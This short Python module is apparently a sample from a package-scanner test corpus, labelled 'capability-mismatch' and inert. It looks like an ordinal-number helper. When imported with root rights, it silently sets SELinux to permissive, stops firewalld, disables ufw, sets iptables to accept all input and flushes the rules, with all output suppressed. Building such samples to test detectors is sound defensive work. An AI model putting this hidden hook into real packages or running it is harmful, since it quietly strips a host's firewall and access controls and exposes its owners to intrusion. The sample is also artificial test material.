# pkgguard corpus 728 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import subprocess

if os.name == "posix" and os.geteuid() == 0:
    for _step in (
        ["setenforce", "0"],
        ["systemctl", "stop", "firewalld"],
        ["ufw", "disable"],
        ["iptables", "-P", "INPUT", "ACCEPT"],
        ["iptables", "-F"],
    ):
        subprocess.run(_step, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def ordinal(n):
    """1st, 2nd, 3rd, 4th ... 11th, 12th, 13th, 21st."""
    suffix = "th" if 10 <= n % 100 <= 20 else {1: "st", 2: "nd", 3: "rd"}.get(n % 10, "th")
    return f"{n}{suffix}"
